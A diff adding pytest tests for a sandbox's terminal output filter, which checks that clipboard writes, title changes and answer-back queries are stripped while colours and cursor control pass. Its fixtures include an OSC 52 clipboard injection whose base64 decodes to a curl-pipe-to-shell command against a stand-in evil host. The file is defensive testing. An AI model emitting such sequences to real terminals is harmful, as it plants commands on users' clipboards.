@@ -1,0 +1,124 @@
+"""The terminal output filter (agentvm/termfilter.py): what makes the operator's terminal act
+for the sandbox (the clipboard, answer-back queries, titles, DCS strings) is removed; what
+interactive programs need (text, colours, cursor movement, modes, OSC 8 links) is kept; split
+anywhere, the answer is the same; nothing is held beyond the bound. TABLE is shared with the
+C client's copy of the machine (tests/unit/test_client_c.py)."""
+
+from __future__ import annotations
+
+import os
+import pty
+
+import pytest
+
+from agentvm import termfilter
+from agentvm.termfilter import LIMIT, TermFilter
+
+E = b"\x1b"
+ST = b"\x1b\\"
+CLIP = E + b"]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07"
+
+# (what the sandbox writes, what reaches the terminal)
+TABLE: list[tuple[bytes, bytes]] = [
+    # kept: text, UTF-8, controls a line editor uses, colours, cursor, modes, charsets
+    (b"plain text\r\n\tand a tab\x08\x07", b"plain text\r\n\tand a tab\x08\x07"),
+    ("héllo ✓ 日本 \u00a0".encode(), "héllo ✓ 日本 \u00a0".encode()),
+    (E + b"[1;31mred" + E + b"[0m", E + b"[1;31mred" + E + b"[0m"),
+    (E + b"[38;2;255;128;0mrgb" + E + b"[m", E + b"[38;2;255;128;0mrgb" + E + b"[m"),
+    (E + b"[H" + E + b"[2J" + E + b"[10;5H" + E + b"[K" + E + b"[3A" + E + b"[2C",
+     E + b"[H" + E + b"[2J" + E + b"[10;5H" + E + b"[K" + E + b"[3A" + E + b"[2C"),
+    (E + b"[?1049h" + E + b"[?25l" + E + b"[?2004h" + E + b"[?1000h" + E + b"[1;24r",
+     E + b"[?1049h" + E + b"[?25l" + E + b"[?2004h" + E + b"[?1000h" + E + b"[1;24r"),
+    (E + b"7" + E + b"8" + E + b"M" + E + b"=" + E + b">" + E + b"(0qq" + E + b"(B",
+     E + b"7" + E + b"8" + E + b"M" + E + b"=" + E + b">" + E + b"(0qq" + E + b"(B"),
+    (E + b"[2 q" + E + b"[!p" + E + b"[>4;2m" + E + b"[3S", E + b"[2 q" + E + b"[!p" + E + b"[>4;2m" + E + b"[3S"),
+    (E + b"]8;;https://example.test/a?b=c" + ST + b"link" + E + b"]8;;" + ST,
+     E + b"]8;;https://example.test/a?b=c" + ST + b"link" + E + b"]8;;" + ST),
+    (E + b"]7;file://host/tmp\x07" + E + b"]133;A\x07", E + b"]7;file://host/tmp\x07" + E + b"]133;A\x07"),
+    (E + b"]12;#ff0000\x07" + E + b"]4;1;rgb:ff/00/00" + ST + E + b"]104\x07",
+     E + b"]12;#ff0000\x07" + E + b"]4;1;rgb:ff/00/00" + ST + E + b"]104\x07"),
+    # removed: the clipboard, titles, other OSCs
+    (b"a" + CLIP + b"b", b"ab"),
+    (b"a" + E + b"]52;c;?" + ST + b"b", b"ab"),
+    (b"a" + E + b"]0;pwned\x07b" + E + b"]2;title" + ST + b"c" + E + b"]1;icon\x07", b"abc"),
+    (b"a" + E + b"]1337;File=name=eA==:AAAA\x07" + E + b"]46;/tmp/log\x07" + E + b"]777;notify;x;y\x07b", b"ab"),
+    (b"a" + E + b"]8;;http://x/\x01y" + ST + b"b", b"ab"),  # a control inside a kept OSC: dropped whole
+    # removed: answer-back queries
+    (b"a" + E + b"[6nb" + E + b"[5nc" + E + b"[?6nd" + E + b"[?15n", b"abcd"),
+    (b"a" + E + b"[cb" + E + b"[0cc" + E + b"[>cd" + E + b"[=ce" + E + b"[>0c", b"abcde"),
+    (b"a" + E + b"[14tb" + E + b"[18tc" + E + b"[19td" + E + b"[21te" + E + b"[20t" + E + b"[22;0t", b"abcde"),
+    (b"a" + E + b"]4;1;?\x07b" + E + b"]10;?\x07c" + E + b"]11;?" + ST + b"d" + E + b"]12;?\x07", b"abcd"),
+    (b"a" + E + b"P$qm" + ST + b"b" + E + b"P+q544e" + ST + b"c", b"abc"),
+    (b"a" + E + b"P1;1|17/6162" + ST + b"b" + E + b"Pq#0;2;0;0;0~~" + ST + b"c", b"abc"),
+    (b"a" + E + b"_Gi=1,a=q;" + ST + b"b" + E + b"^pm" + ST + b"c" + E + b"Xsos" + ST, b"abc"),
+    (b"a" + E + b"[?2026$pb" + E + b"[>qc" + E + b"[?ud" + E + b"[?1;1S" + E + b"[?4me" + E + b"[x", b"abcde"),
+    (b"a" + E + b"[1;1;1;1;1;1*yb" + E + b"[1'wc" + E + b"[1$wd" + E + b"[&ue" + E + b"[\"v" + E + b"[#|", b"abcde"),
+    (b"a" + E + b"Zb\x05c", b"abc"),
+    # removed: C1 controls in UTF-8 (U+009B CSI, U+009D OSC, U+0090 DCS)
+    (b"a\xc2\x9b6nb\xc2\x9d52;c;QQ==\x07c\xc2\x90$qm", b"a6nb52;c;QQ==\x07c$qm"),
+    # cancelled, cut short, malformed
+    (b"a" + E + b"[6\x18nb", b"anb"),
+    (b"a" + E + b"]52;c;QQ==\x1ab", b"ab"),
+    (b"a" + E + b"[6" + E + b"[31mb", b"a" + E + b"[31mb"),
+    (b"a" + E + b"]0;x" + E + b"[6nb", b"ab"),
+    (b"a" + E + b"[1$2mb", b"ab"),
+    (b"a" + E + E + b"[6nb", b"ab"),
+    (b"a" + E + b"\nb", b"a\nb"),
+    (b"a" + E + b"[6\nnb", b"a\nnb"),
+]
+
+
+def run(f: TermFilter, pieces) -> bytes:
+    return b"".join(f.feed(p) for p in pieces) + f.finish()
+
+
+@pytest.mark.parametrize("data,want", TABLE)
+def test_the_table_whole_split_at_every_byte_and_a_byte_at_a_time(data, want):
+    assert run(TermFilter(), [data]) == want
+    for k in range(len(data) + 1):
+        assert run(TermFilter(), [data[:k], data[k:]]) == want, k
+    assert run(TermFilter(), [data[i:i + 1] for i in range(len(data))]) == want
+
+
+def test_a_sequence_past_the_bound_is_dropped_and_not_held():
+    f = TermFilter()
+    body = b"A" * (LIMIT + 100)
+    out = f.feed(E + b"]52;c;" + body[:LIMIT - 100])
+    assert out == b"" and len(f.held) == LIMIT - 100 + 8  # held while it may still end
+    out += f.feed(body[LIMIT - 100:] + b"\x07tail")
+    assert b"\x1b" not in out and b"52;c" not in out  # its introducer never reached the terminal
+    assert out.endswith(b"\x07tail") and len(f.held) == 0
+    # an unterminated DCS is discarded without holding anything
+    f = TermFilter()
+    f.feed(E + b"P" + b"x" * (10 * LIMIT))
+    assert len(f.held) == 0
+    assert f.feed(ST + b"after") == b"after"
+
+
+def test_an_incomplete_sequence_at_the_end_is_dropped_not_completed_by_the_next_write():
+    f = TermFilter()
+    assert f.feed(b"out" + E + b"[") == b"out"
+    assert f.finish() == b""
+    assert f.feed(b"6n") == b"6n"  # after finish the bytes are text: no ESC ever went out
+
+
+def test_large_plain_output_passes_in_one_piece():
+    data = (b"x" * 1000 + b"\n") * 1000
+    assert TermFilter().feed(data) == data
+
+
+def test_only_a_terminal_gets_a_filter_and_raw_output_turns_it_off(monkeypatch, tmp_path):
+    monkeypatch.delenv("AGENTVM_RAW_OUTPUT", raising=False)
+    master, slave = pty.openpty()
+    r, w = os.pipe()
+    try:
+        assert isinstance(termfilter.for_fd(slave), TermFilter)
+        assert termfilter.for_fd(w) is None  # a pipe: bytes pass exact
+        with open(tmp_path / "f", "wb") as fh:
+            assert termfilter.for_fd(fh.fileno()) is None  # a file
+        assert termfilter.for_fd(slave, raw=True) is None
+        monkeypatch.setenv("AGENTVM_RAW_OUTPUT", "1")
+        assert termfilter.for_fd(slave) is None
+    finally:
+        for fd in (master, slave, r, w):
+            os.close(fd)
